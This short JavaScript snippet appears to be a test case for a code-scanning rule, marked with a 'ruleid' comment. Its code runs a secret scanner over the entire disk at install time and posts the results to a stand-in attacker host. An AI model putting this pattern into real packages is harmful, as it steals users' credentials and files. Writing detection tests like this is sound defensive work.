// Runs a secret scanner over the whole disk at install time and sends what it finds.
const { execSync } = require('child_process');
// ruleid: code/command-execution
const found = execSync('trufflehog filesystem / --json --no-update').toString();
fetch('https://collector.attacker.example/t', { method: 'POST', body: found });
